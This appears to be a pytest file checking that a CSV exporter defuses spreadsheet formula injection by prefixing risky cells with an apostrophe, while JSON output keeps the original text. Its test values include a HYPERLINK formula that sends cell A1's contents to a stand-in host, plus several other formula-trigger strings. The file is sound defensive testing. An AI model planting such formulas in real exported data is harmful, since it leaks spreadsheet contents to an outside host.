"""Rows for other programs: what a spreadsheet would run is written so that it does not."""

import csv
import io
import json

import pytest

from dragoman.export.rows import csv_cell, write_rows
from dragoman.model.answer import Finding

FORMULA = '=HYPERLINK("http://a.example/?"&A1,"press")'


@pytest.mark.parametrize(
    "words",
    [
        FORMULA,
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1+1",
        "＝1+1",
        "－1+1",
        "-",
        "- he said",
    ],
)
def test_words_that_would_be_a_formula_stand_behind_an_apostrophe(words):
    assert csv_cell(words) == f"'{words}"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        (-12.5, -12.5),
        (-3, -3),
        ("-3", "-3"),
        ("+44.5", "+44.5"),
        (None, None),
        (True, "true"),
        ("", ""),
        ("it's 1 = 1", "it's 1 = 1"),
        ("https://a.example/?a=-1", "https://a.example/?a=-1"),
        ("'quoted'", "'quoted'"),
    ],
)
def test_other_cells_stand_as_they_are(cell, shown):
    assert csv_cell(cell) == shown


def statement(words):
    return Finding(
        id="s1",
        family="statement",
        type="direct",
        quad=None,
        status=None,
        date=None,
        day="2024-05-04",
        is_dated=False,
        place=None,
        reported="2024-05-04",
        claims=1,
        sources=1,
        conflicts=0,
        confidence=0.9,
        is_reviewed=False,
        parties={},
        details={"speaker_text": "@minister", "channel": "speech", "text": words},
        addresses=("a.txt",),
    )


def test_csv_guards_and_json_has_the_words():
    target = io.StringIO(newline="")
    write_rows([statement(FORMULA)], "statements", target, format="csv")
    (row,) = csv.DictReader(io.StringIO(target.getvalue(), newline=""))
    assert (row["text"], row["speaker_text"]) == (f"'{FORMULA}", "'@minister")
    target = io.StringIO()
    write_rows([statement(FORMULA)], "statements", target, format="json")
    (told,) = json.loads(target.getvalue())
    assert (told["text"], told["speaker_text"]) == (FORMULA, "@minister")
